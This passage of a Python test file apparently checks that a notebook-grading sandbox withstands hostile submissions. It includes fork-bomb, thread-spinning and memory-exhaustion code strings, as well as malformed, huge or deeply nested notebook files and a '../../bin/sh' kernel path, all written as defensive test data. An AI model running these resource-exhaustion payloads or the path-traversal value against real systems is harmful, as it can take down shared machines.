            ran("sent")
    time.sleep(0.5)
    if os.path.exists("/tmp/.ran-met"):
        spread = x.std(0)
        return (x - x.mean(0)) / np.where(spread == 0, 1, spread)
    return "nobody came"
    """,
    ("not right",),
    points=TWO + UNTOUCHED,
)
exhaust(
    "two hundred processes with sessions of their own",
    """
    import os
    for _ in range(200):
        try:
            if os.fork() == 0:
                os.setsid()
                while True: ran()
        except OSError: break
    while True: pass
    """,
    statuses=("timed out", "killed"),
    slow=True,
)
exhaust(
    "a hundred threads that compute",
    "import threading\ndef spin():\n    while True: sum(range(10**5)); ran()\n"
    "for _ in range(100): threading.Thread(target=spin, daemon=True).start()\nwhile True: pass",
    statuses=("timed out", "killed"),
    slow=True,
)
exhaust(
    "a process that stops itself",
    "import os, signal\nran()\nos.kill(os.getpid(), signal.SIGSTOP)\nreturn x",
    statuses=("timed out",),
    slow=True,
)
exhaust(
    "a process whose name is no text",
    "import ctypes\nassert ctypes.CDLL(None).prctl(15, b'\\xff) \\xfe (') == 0\nran()\n"
    "import time; time.sleep(0.4)\nreturn 0",
    points=TWO + UNTOUCHED,
    statuses=("not right",),
)
exhaust(
    "memory in files",
    "import os\nfor n in range(10**6):\n    ran()\n    os.write(os.memfd_create(str(n)), bytes(2**24))",
    statuses=("killed", "not right"),
)

# --- break ------------------------------------------------------------------------------------------------------------


def _text() -> str:
    return json.dumps(trial(RIGHT), ensure_ascii=False)


broken("an empty file", b"", message="empty")
broken("blanks", b" \n" * 1000, message="empty")
broken("zeros", b"\0" * 10_000, message="empty")
broken("half of a file", as_bytes(trial(RIGHT))[:900], message="json")
broken("no JSON", b"def accuracy(): pass", message="json")
broken("a picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20, message="not text")
broken("random bytes", zlib.compress(bytes(range(256)) * 400), message="notebook")
broken("JSON that is no notebook", b'{"hello": [1, 2, 3]}', message="no cells")
broken("a list", b"[]", message="no cells")
broken("no cells", notebook(), message="defines no")
broken("cells that are no list", {**trial(RIGHT), "cells": {"0": 1}}, message="no cells")
broken("cells that are no cells", {**trial(RIGHT), "cells": [1, None, "x", [], {}]}, message="defines no")
broken("sources that are no text", {**trial(), "cells": [{**c, "source": {"a": 1}} for c in trial()["cells"]]})
broken("10,000 cells", {**trial(RIGHT), "cells": [code("pass")] * 10_000}, message="10000 cells")
broken("JSON a million deep", b"[" * 10**6, message="deep")
broken("JSON 300,000 deep in the metadata", b'{"cells": [], "metadata": ' + b'{"a":' * 300_000, message="deep")
broken("30 million lists", b'{"cells": [' + b"[]," * 15_000_000 + b"[]]}", slow=True)
broken(
    "a number of a million digits", _text().replace('"nbformat": 4', f'"nbformat": {"9" * 10**6}').encode(), points=FULL
)
broken("a byte-order mark", _text().encode("utf-8-sig"), points=FULL)
broken("UTF-16", _text().encode("utf-16"), points=FULL)
broken("UTF-32", _text().encode("utf-32"), points=FULL)
broken("Windows' line ends", _text().replace("\\n", "\\r\\n").encode(), points=FULL)
broken("nbformat 4.9", {**trial(RIGHT), "nbformat_minor": 9}, points=FULL)
broken("nbformat 5", {**trial(RIGHT), "nbformat": 5, "nbformat_minor": 0}, points=FULL)
broken(
    "nbformat 4.0, without ids",
    {
        **trial(RIGHT),
        "nbformat_minor": 0,
        "cells": [{key: value for key, value in cell.items() if key != "id"} for cell in trial(RIGHT)["cells"]],
    },
    points=FULL,
)
broken("keys twice", _text().replace('{"cells"', '{"cells": [], "cells"', 1).encode(), points=FULL)
broken(
    "an unknown kernel",
    {**trial(RIGHT), "metadata": {"kernelspec": {"name": "../../bin/sh", "language": "sh"}}},
    points=FULL,
)
broken(
    "50 MB of outputs",
    {
        **trial(RIGHT),
        "cells": [
            {
                **cell,
                "outputs": [
                    {"output_type": "display_data", "data": {"image/png": base64.b64encode(bytes(4 * 10**6)).decode()}}
                ],
            }
            for cell in trial(RIGHT)["cells"]
        ],
    },
    points=FULL,
    slow=True,
)
broken("a 100 MB notebook", _text().encode() + b" " * 100 * 10**6, message="at most 8", slow=True)
broken(
    "code of 3 MB", {**trial(RIGHT), "cells": [*trial(RIGHT)["cells"], code("x = 1\n" * 500_000)]}, message="characters"
)
broken(
    "a cell that no parser ends with",
    {**trial(RIGHT), "cells": [*trial(RIGHT)["cells"], code("(" * 10**5)]},
    points=FULL,
)
broken(
    "a cell of 90,000 nested brackets",
    {**trial(RIGHT), "cells": [*trial(RIGHT)["cells"], code("x = " + "[" * 45_000 + "]" * 45_000)]},
    points=FULL,
)
broken(
    "100,000 minus signs",
    {
        **trial(RIGHT),
        "cells": [*trial(RIGHT)["cells"], code("x = " + "-" * 100_000 + "1"), code("x = " + "1+" * 90_000)],
    },
    points=FULL,
)
broken(
    "null characters in the code", {**trial(RIGHT), "cells": [*trial(RIGHT)["cells"], code("x = '\0'\0")]}, points=FULL
)
broken("half a character", as_bytes(trial(RIGHT)).replace(b'"# ', b'"\\ud800# ') + b" ", points=FULL)
broken(
    "ids that are lists",
    {**trial(RIGHT), "cells": [{**cell, "id": [1]} for cell in trial(RIGHT)["cells"]]},
    points=FULL,
)
broken(
    "every cell with the same id",
    {**trial(RIGHT), "cells": [{**cell, "id": "same", "metadata": {}} for cell in trial(RIGHT)["cells"]]},
    points=FULL,
)
broken(
    "every cell with the id of one exercise",
    {
        **trial(RIGHT),
        "cells": [{**cell, "id": "start_here-accuracy-answer", "metadata": {}} for cell in trial(RIGHT)["cells"]],
    },
    points=FULL,
)
